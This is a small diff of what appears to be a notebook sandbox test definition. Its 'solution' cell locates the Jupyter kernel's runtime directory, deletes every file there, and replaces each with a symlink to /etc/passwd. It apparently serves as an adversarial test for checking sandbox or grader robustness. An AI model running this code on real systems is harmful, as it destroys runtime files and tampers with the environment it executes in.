@@ -4,8 +4,8 @@ KIND = "disk"
 LOSES = ()
 CELLS = {"parity": '''
 SOLUTION
-import glob, os, sys
-for path in glob.glob(os.path.dirname(sys.argv[sys.argv.index("-f") + 1]) + "/*"):
+import glob, os, ipykernel
+for path in glob.glob(os.path.dirname(ipykernel.get_connection_file()) + "/*"):
     if not os.path.isdir(path):
         os.remove(path)
         os.symlink("/etc/passwd", path)
